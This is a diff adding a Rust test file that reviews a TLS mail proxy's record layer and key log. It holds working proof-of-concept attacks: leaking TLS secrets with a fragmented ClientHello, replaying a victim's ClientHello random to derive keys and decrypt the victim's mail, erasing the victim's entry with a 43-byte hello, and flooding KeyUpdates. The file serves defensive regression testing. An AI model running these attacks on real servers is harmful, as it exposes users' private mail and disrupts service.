@@ -1,0 +1,389 @@
+//! Review of the copy engine's own record layer (relay/record.rs) and of the key log that
+//! feeds it (tls/secrets.rs, tls/prefixed.rs): what a client can make of them.
+//!
+//! Each test speaks real TLS (rustls clients, some with a fixed ClientHello random, as any
+//! client may choose its random) to a server configured as mailtls configures its own (key
+//! extraction on, `SecretLog` as key log, sessions accepted over `Prefixed`), and relays
+//! the session with `relay::run`'s copy engine. Each fails while the flaw it names is there.
+
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use bytes::BytesMut;
+use mailtls::config::RelayMode;
+use mailtls::metrics::Metrics;
+use mailtls::relay::{self, Ending, Engines, Faults, Pending, Report};
+use mailtls::tls::prefixed::Prefixed;
+use mailtls::tls::secrets;
+use rustls::crypto::aws_lc_rs::cipher_suite::TLS13_AES_128_GCM_SHA256;
+use rustls::crypto::cipher::InboundOpaqueMessage;
+use rustls::crypto::tls13::OkmBlock;
+use rustls::crypto::{GetRandomFailed, SecureRandom};
+use rustls::{ContentType, KeyLog, ProtocolVersion};
+use tokio::io::{AsyncReadExt, AsyncWriteExt};
+use tokio::net::{TcpListener, TcpStream};
+
+const IDLE: Duration = Duration::from_secs(60);
+/// How long a step may take before the test gives up on it (a bound, not a measurement).
+const PATIENCE: Duration = Duration::from_secs(30);
+
+type ClientTls = tokio_rustls::client::TlsStream<TcpStream>;
+type ProxyTls = tokio_rustls::server::TlsStream<Prefixed<TcpStream>>;
+
+async fn tcp_pair() -> (TcpStream, TcpStream) {
+    let l = TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let a = TcpStream::connect(l.local_addr().unwrap()).await.unwrap();
+    let (b, _) = l.accept().await.unwrap();
+    a.set_nodelay(true).unwrap();
+    b.set_nodelay(true).unwrap();
+    (a, b)
+}
+
+/// Fills every 32-byte request (the ClientHello random, the legacy session id) with one
+/// value the client chose; the rest (key shares use aws-lc's own) from the system.
+#[derive(Debug)]
+struct ChosenRandom([u8; 32]);
+
+impl SecureRandom for ChosenRandom {
+    fn fill(&self, buf: &mut [u8]) -> Result<(), GetRandomFailed> {
+        if buf.len() == 32 {
+            buf.copy_from_slice(&self.0);
+            Ok(())
+        } else {
+            rustls::crypto::aws_lc_rs::default_provider().secure_random.fill(buf)
+        }
+    }
+}
+
+/// A client's own key log: what the client (the attacker, here) knows of its session.
+#[derive(Debug, Default)]
+struct ClientLog(Mutex<Vec<(String, Vec<u8>)>>);
+
+impl KeyLog for ClientLog {
+    fn log(&self, label: &str, _client_random: &[u8], secret: &[u8]) {
+        self.0.lock().unwrap().push((label.to_owned(), secret.to_vec()));
+    }
+}
+
+impl ClientLog {
+    fn get(&self, label: &str) -> Vec<u8> {
+        let log = self.0.lock().unwrap();
+        log.iter().find(|(l, _)| l == label).map(|(_, s)| s.clone()).expect("secret logged")
+    }
+}
+
+/// A server set up as mailtls sets its own up (tls::server_config): secrets extractable,
+/// the SecretLog as key log; TLS 1.3, AES-128-GCM.
+struct Server {
+    acceptor: tokio_rustls::TlsAcceptor,
+    roots: rustls::RootCertStore,
+}
+
+impl Server {
+    fn new() -> Server {
+        let key = rcgen::KeyPair::generate().unwrap();
+        let cert =
+            rcgen::CertificateParams::new(vec!["localhost".to_owned()]).unwrap().self_signed(&key).unwrap();
+        let mut provider = rustls::crypto::aws_lc_rs::default_provider();
+        provider.cipher_suites = vec![TLS13_AES_128_GCM_SHA256];
+        let key_der = rustls::pki_types::PrivateKeyDer::try_from(key.serialize_der()).unwrap();
+        let mut server = rustls::ServerConfig::builder_with_provider(Arc::new(provider))
+            .with_protocol_versions(&[&rustls::version::TLS13])
+            .unwrap()
+            .with_no_client_auth()
+            .with_single_cert(vec![cert.der().clone()], key_der)
+            .unwrap();
+        server.enable_secret_extraction = true;
+        server.key_log = secrets::SecretLog::shared();
+        let mut roots = rustls::RootCertStore::empty();
+        roots.add(cert.der().clone()).unwrap();
+        Server { acceptor: tokio_rustls::TlsAcceptor::from(Arc::new(server)), roots }
+    }
+
+    /// A client config with a ClientHello random of the client's choosing, records of at
+    /// most `fragment` bytes (rustls counts the 5-byte header in), and its own key log.
+    fn client(
+        &self,
+        random: [u8; 32],
+        fragment: Option<usize>,
+        log: Option<Arc<ClientLog>>,
+    ) -> rustls::ClientConfig {
+        let mut provider = rustls::crypto::aws_lc_rs::default_provider();
+        provider.cipher_suites = vec![TLS13_AES_128_GCM_SHA256];
+        provider.secure_random = Box::leak(Box::new(ChosenRandom(random)));
+        let mut config = rustls::ClientConfig::builder_with_provider(Arc::new(provider))
+            .with_protocol_versions(&[&rustls::version::TLS13])
+            .unwrap()
+            .with_root_certificates(self.roots.clone())
+            .with_no_client_auth();
+        config.max_fragment_size = fragment;
+        if let Some(log) = log {
+            config.key_log = log;
+        }
+        config
+    }
+
+    /// A whole handshake: the client's end, and the proxy's end as a session holds it.
+    async fn handshake(&self, client: rustls::ClientConfig) -> (ClientTls, ProxyTls) {
+        let (client_tcp, server_tcp) = tcp_pair().await;
+        let connector = tokio_rustls::TlsConnector::from(Arc::new(client));
+        let name = rustls::pki_types::ServerName::try_from("localhost").unwrap();
+        let (client, proxy) = tokio::join!(
+            connector.connect(name, client_tcp),
+            self.acceptor.accept(Prefixed::new(server_tcp, BytesMut::new()))
+        );
+        (client.unwrap(), proxy.unwrap())
+    }
+}
+
+fn engines(faults: Faults) -> Engines {
+    Engines::detect(RelayMode::Copy, IDLE, Arc::new(Metrics::default())).with_faults(faults)
+}
+
+/// Hands the proxy's end to the copy engine (as session.rs does once negotiation is over)
+/// and waits until a first line went through it: by then the record layer took the keys
+/// and the key log's secrets.
+async fn relayed(
+    client: &mut ClientTls,
+    proxy: ProxyTls,
+    faults: Faults,
+) -> (TcpStream, tokio::task::JoinHandle<Report>) {
+    let (backend_side, mut backend_app) = tcp_pair().await;
+    let engines = engines(faults);
+    let relay = tokio::spawn(async move {
+        let mut engine = None;
+        relay::run(proxy, backend_side, Pending::default(), &engines, "review", &mut engine).await
+    });
+    client.write_all(b"a1 NOOP\r\n").await.unwrap();
+    client.flush().await.unwrap();
+    let mut got = [0u8; 9];
+    tokio::time::timeout(PATIENCE, backend_app.read_exact(&mut got)).await.expect("relayed").unwrap();
+    assert_eq!(&got, b"a1 NOOP\r\n");
+    (backend_app, relay)
+}
+
+/// The client's KeyUpdate (asking for the server's), a line under the new key to the
+/// backend and a reply under the server's new key: Ok when the session followed it.
+async fn key_update_round(client: &mut ClientTls, backend: &mut TcpStream) -> Result<(), String> {
+    client.get_mut().1.refresh_traffic_keys().map_err(|e| e.to_string())?;
+    client.write_all(b"a2 after a key update\r\n").await.map_err(|e| e.to_string())?;
+    client.flush().await.map_err(|e| e.to_string())?;
+    let mut got = [0u8; 23];
+    match tokio::time::timeout(PATIENCE, backend.read_exact(&mut got)).await {
+        Ok(Ok(_)) if &got == b"a2 after a key update\r\n" => {}
+        Ok(Ok(_)) => return Err(format!("backend got {got:?}")),
+        Ok(Err(e)) => return Err(format!("the backend never got the line under the new key: {e}")),
+        Err(_) => return Err("the backend never got the line under the new key (no answer)".to_owned()),
+    }
+    backend.write_all(b"a2 OK\r\n").await.map_err(|e| e.to_string())?;
+    let mut got = [0u8; 7];
+    match tokio::time::timeout(PATIENCE, client.read_exact(&mut got)).await {
+        Ok(Ok(_)) => Ok(()),
+        Ok(Err(e)) => Err(format!("the client could not read the reply: {e}")),
+        Err(_) => Err("the client never got the reply".to_owned()),
+    }
+}
+
+/// Finding 1 (key log leak). A ClientHello split over records (RFC 8446 5.1 allows any
+/// fragmentation of handshake messages; rustls joins them) whose first record is shorter
+/// than the random's end: `Head::client_random` reads no random, so the stream's drop
+/// forgets nothing, and the TLS 1.3 traffic secrets the key log took at the server's flight
+/// stay in the process-wide table after the connection is gone. One entry per handshake,
+/// without bound: memory and live secrets of dead sessions, on demand of any client.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_fragmented_client_hello_leaves_no_secrets_behind_in_the_key_log() {
+    let server = Server::new();
+    // Control: an ordinary ClientHello, forgotten when the connection ends.
+    let control = [0xC0; 32];
+    let (client, proxy) = server.handshake(server.client(control, None, None)).await;
+    drop((client, proxy));
+    assert!(secrets::take(&control).is_none(), "control: an ordinary handshake's secrets are forgotten");
+    // The same, in records of 27 payload bytes (rustls's smallest, 32 with the header).
+    let mut held = 0;
+    for i in 0..50u8 {
+        let random = [i; 32];
+        let (client, proxy) = server.handshake(server.client(random, Some(32), None)).await;
+        drop((client, proxy));
+        held += usize::from(secrets::take(&random).is_some());
+    }
+    assert_eq!(
+        held, 0,
+        "connections ended, yet the key log still held the TLS 1.3 traffic secrets of {held} of 50"
+    );
+}
+
+/// Finding 1, its other face: the same legal client loses its session at its first
+/// KeyUpdate, since the relay got no secrets to follow it.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_fragmented_client_hello_still_gets_its_key_updates_followed() {
+    let server = Server::new();
+    let (mut client, proxy) = server.handshake(server.client([0xC1; 32], Some(32), None)).await;
+    let (mut backend, relay) = relayed(&mut client, proxy, Faults::default()).await;
+    let round = key_update_round(&mut client, &mut backend).await;
+    relay.abort();
+    round.unwrap();
+}
+
+/// Finding 2 (secrets under another connection's random). The key log is keyed by the
+/// ClientHello random alone, which any client chooses and anyone on the path reads in
+/// clear. An attacker who saw a victim's ClientHello sends its own with the same random
+/// (and its own key share) while the victim's session is between handshake and relay
+/// (backend connect, greeting, IMAP/SMTP negotiation: seconds): the server's flight for
+/// the attacker overwrites the victim's entry, and the victim's relay takes the attacker's
+/// secrets. At the victim's KeyUpdate (update_requested) the relay seals every later
+/// backend byte under a key derived from the attacker's server secret: the attacker reads
+/// the victim's mail off the wire.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_replayed_client_hello_random_does_not_hand_the_attacker_the_victims_next_keys() {
+    let server = Server::new();
+    let random = [0xA7; 32];
+    let (mut victim, victim_proxy) = server.handshake(server.client(random, None, None)).await;
+    // The attacker's connection, same random; it is merely kept open (its handshake could
+    // as well stop after the server's flight: the key log is written at that flight).
+    let log = Arc::new(ClientLog::default());
+    let (_attacker, _attacker_proxy) = server.handshake(server.client(random, None, Some(log.clone()))).await;
+    // The victim's negotiation ends; its relay takes over.
+    let (mut backend, relay) = relayed(&mut victim, victim_proxy, Faults::default()).await;
+    // The victim's KeyUpdate, asking for the server's; then the backend speaks.
+    victim.get_mut().1.refresh_traffic_keys().unwrap();
+    victim.flush().await.unwrap();
+    let mail = b"* 1 FETCH (BODY[] {24}\r\nthe victim's secret mail)\r\n";
+    backend.write_all(mail).await.unwrap();
+    // Every record on the victim's wire since the handshake (session tickets, the answer
+    // to the KeyUpdate, the backend's bytes), as a passive observer takes them.
+    let wire = &mut victim.get_mut().0;
+    let mut records = Vec::new();
+    loop {
+        let mut header = [0u8; 5];
+        match tokio::time::timeout(Duration::from_secs(2), wire.read_exact(&mut header)).await {
+            Ok(Ok(_)) => {}
+            _ => break,
+        }
+        let mut body = vec![0u8; usize::from(u16::from_be_bytes([header[3], header[4]]))];
+        wire.read_exact(&mut body).await.unwrap();
+        records.push(body);
+    }
+    relay.abort();
+    assert!(records.len() >= 2, "the KeyUpdate's answer and the backend's bytes reached the victim");
+    // What the attacker derives from its own session: application_traffic_secret_1 of the
+    // server (RFC 8446 7.2), its key and IV (7.3), record 0 under it.
+    let suite = TLS13_AES_128_GCM_SHA256.tls13().unwrap();
+    let secret0 = OkmBlock::new(&log.get("SERVER_TRAFFIC_SECRET_0"));
+    let expander = suite.hkdf_provider.expander_for_okm(&secret0);
+    let length = (expander.hash_len() as u16).to_be_bytes();
+    const LABEL: &[u8] = b"tls13 traffic upd";
+    let secret1 = expander.expand_block(&[&length, &[LABEL.len() as u8], LABEL, &[0]]);
+    let expander = suite.hkdf_provider.expander_for_okm(&secret1);
+    let key = rustls::internal::derive_traffic_key(expander.as_ref(), suite.aead_alg);
+    let iv = rustls::internal::derive_traffic_iv(expander.as_ref());
+    let mut opener = suite.aead_alg.decrypter(key, iv);
+    for mut body in records {
+        let sealed =
+            InboundOpaqueMessage::new(ContentType::ApplicationData, ProtocolVersion::TLSv1_2, &mut body);
+        if let Ok(plain) = opener.decrypt(sealed, 0) {
+            panic!(
+                "the attacker, from its own session's secret, read the victim's traffic: {:?}",
+                String::from_utf8_lossy(plain.payload)
+            );
+        }
+    }
+}
+
+/// Finding 2, the cheap variant: 43 bytes of a ClientHello with the victim's random and a
+/// hang-up make the stream's drop forget the victim's entry, so the victim's session ends
+/// at its first KeyUpdate.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_stranger_with_the_victims_random_cannot_end_its_key_updates() {
+    let server = Server::new();
+    let random = [0xA8; 32];
+    let (mut victim, victim_proxy) = server.handshake(server.client(random, None, None)).await;
+    let (mut attacker, server_tcp) = tcp_pair().await;
+    let mut hello = vec![22, 3, 1, 0, 200, 1, 0, 0, 196, 3, 3];
+    hello.extend(random);
+    attacker.write_all(&hello).await.unwrap();
+    drop(attacker);
+    let refused = server.acceptor.accept(Prefixed::new(server_tcp, BytesMut::new())).await;
+    assert!(refused.is_err(), "no handshake from 43 bytes");
+    let (mut backend, relay) = relayed(&mut victim, victim_proxy, Faults::default()).await;
+    let round = key_update_round(&mut victim, &mut backend).await;
+    relay.abort();
+    round.unwrap();
+}
+
+/// Finding 3 (KeyUpdate flood). rustls allows 32 KeyUpdates without application data in
+/// between (TemperCounters, after BoringSSL's kMaxKeyUpdates) and keeps at most one answer
+/// queued; the record layer follows any number, each costing HKDF work and, with
+/// update_requested, one sealed answer queued per request with no bound while the client
+/// does not read. The rustls path (control) ends the session; the record layer does not.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_flood_of_key_updates_ends_the_session_as_rustls_ends_it() {
+    let server = Server::new();
+    for rustls_records in [true, false] {
+        let random = [0xA9 + u8::from(rustls_records); 32];
+        let (mut client, proxy) = server.handshake(server.client(random, None, None)).await;
+        let (mut backend, relay) =
+            relayed(&mut client, proxy, Faults { rustls_records, ..Faults::default() }).await;
+        for _ in 0..64 {
+            client.get_mut().1.refresh_traffic_keys().unwrap();
+        }
+        client.write_all(b"a3 after 64 key updates\r\n").await.unwrap();
+        let _ = client.flush().await;
+        let ended = tokio::time::timeout(PATIENCE, relay).await;
+        let mut got = Vec::new();
+        let _ = tokio::time::timeout(Duration::from_secs(1), backend.read_to_end(&mut got)).await;
+        let report = ended.unwrap_or_else(|_| {
+            panic!(
+                "rustls_records={rustls_records}: 64 KeyUpdates in a row and the session goes on \
+                 (the backend got {:?})",
+                String::from_utf8_lossy(&got)
+            )
+        });
+        assert_eq!(report.unwrap().ending, Ending::Failed, "rustls_records={rustls_records}");
+    }
+}
+
+/// Finding 3, the memory: a client that sends KeyUpdates asking for the server's and never
+/// reads. Prints the process's resident memory before and after; the record layer queues
+/// one answer per request. (A figure, not an assertion: run with --ignored --nocapture.)
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+#[ignore]
+async fn key_update_requests_unread_grow_the_server_queue() {
+    fn rss_kib() -> u64 {
+        let status = std::fs::read_to_string("/proc/self/status").unwrap();
+        let line = status.lines().find(|l| l.starts_with("VmRSS:")).unwrap();
+        line.split_whitespace().nth(1).unwrap().parse().unwrap()
+    }
+    let server = Server::new();
+    // rustls first (control), then the record layer: RSS rarely shrinks back.
+    for rustls_records in [true, false] {
+        let (mut client, proxy) = server.handshake(server.client([0xAB; 32], None, None)).await;
+        let (mut backend, relay) =
+            relayed(&mut client, proxy, Faults { rustls_records, ..Faults::default() }).await;
+        let before = rss_kib();
+        let mut sent = 0;
+        'flood: for _ in 0..400 {
+            for _ in 0..1000 {
+                if client.get_mut().1.refresh_traffic_keys().is_err() {
+                    break 'flood;
+                }
+                sent += 1;
+            }
+            if client.flush().await.is_err() {
+                break;
+            }
+        }
+        // A data line last: when the backend has it, every KeyUpdate before it was followed.
+        let _ = client.write_all(b"x\r\n").await;
+        let _ = client.flush().await;
+        let mut got = [0u8; 3];
+        let read = tokio::time::timeout(Duration::from_secs(300), backend.read_exact(&mut got)).await;
+        let after = rss_kib();
+        eprintln!(
+            "rustls_records={rustls_records}: {sent} KeyUpdate requests, none read: backend got the line after them: {}; \
+             RSS {before} KiB -> {after} KiB (+{} KiB)",
+            matches!(read, Ok(Ok(_))),
+            after.saturating_sub(before)
+        );
+        relay.abort();
+    }
+}
